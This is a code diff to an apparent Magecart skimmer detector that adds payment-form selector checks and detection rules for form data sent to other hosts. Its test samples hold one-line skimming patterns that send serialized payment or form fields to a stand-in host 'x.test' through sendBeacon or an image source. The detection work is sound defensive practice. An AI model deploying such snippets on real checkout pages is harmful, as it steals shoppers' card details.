@@ -1,9 +1,19 @@
 import type { AnyNode } from 'acorn';
 import type { Facts } from '../facts/facts.ts';
-import { isCardName, mentionsCardField } from '../flow/field-words.ts';
+import { isCardName, isPaymentName, mentionsCardField } from '../flow/field-words.ts';
 import { anyField, taint } from '../flow/taint.ts';
-import type { Feature } from './feature.ts';
-import { allOf, anyOf, flow, paths, sends, sendsAndForgets, text } from './finders.ts';
+import { elementFinders } from '../tree/paths.ts';
+import type { Feature, Finder } from './feature.ts';
+import {
+  allOf,
+  anyOf,
+  flow,
+  paths,
+  sends,
+  sendsAndForgets,
+  sendsElsewhere,
+  text,
+} from './finders.ts';
 
 const checkoutWords = [
   'checkout',
@@ -71,6 +81,15 @@ function imitatesService(address: string): boolean {
   );
 }
 
+/** Elements that are looked for by a name of payment. */
+const paymentSelectors: Finder = ({ methods, reading: { tree, values } }) =>
+  [...elementFinders].flatMap((name) =>
+    (methods.get(name) ?? []).filter((number) => {
+      const call = tree.node(number);
+      return call?.type === 'CallExpression' && isPaymentName(values.text(call.arguments[0]) ?? '');
+    }),
+  );
+
 const listedReaders = ['querySelector', 'querySelectorAll', 'getElementById', 'getElementsByName'];
 const listedSenders = ['sendBeacon', 'fetch', 'XMLHttpRequest', 'WebSocket', 'Image', 'src'];
 
@@ -122,7 +141,7 @@ export const magecartFeatures: readonly Feature[] = [
   {
     id: 'all-fields-sent-unanswered',
     what: 'Sends all fields of the page or a form, and nobody waits for an answer',
-    points: 55,
+    points: 40,
     find: sendsAndForgets(taint.allFields),
     samples: {
       matching: [
@@ -130,6 +149,34 @@ export const magecartFeatures: readonly Feature[] = [
       ],
       other: [
         `fetch('/save', { method: 'POST', body: new FormData(document.querySelector('form')) }).then(done);`,
+      ],
+    },
+  },
+  {
+    id: 'all-fields-sent-elsewhere',
+    what: 'Sends all fields of the page or a form to another host without waiting for an answer',
+    points: 65,
+    find: sendsElsewhere(taint.allFields),
+    samples: {
+      matching: [
+        `f.onsubmit = function () { navigator.sendBeacon('https://x.test/c', new FormData(document.forms[0])); };`,
+      ],
+      other: [
+        `f.onsubmit = function () { navigator.sendBeacon('/own', new FormData(document.forms[0])); };`,
+      ],
+    },
+  },
+  {
+    id: 'payment-form-copied',
+    what: 'Picks the payment form of a page and sends fields without waiting for an answer',
+    points: 30,
+    find: allOf(sendsAndForgets(taint.allFields), paymentSelectors),
+    samples: {
+      matching: [
+        `$('#co-payment-form').on('submit', function () { $('<img>').attr('src', '//x.test/?' + $(this).serialize()); });`,
+      ],
+      other: [
+        `$('#co-payment-form').on('submit', function () { validate($(this).serialize()); });`,
       ],
     },
   },
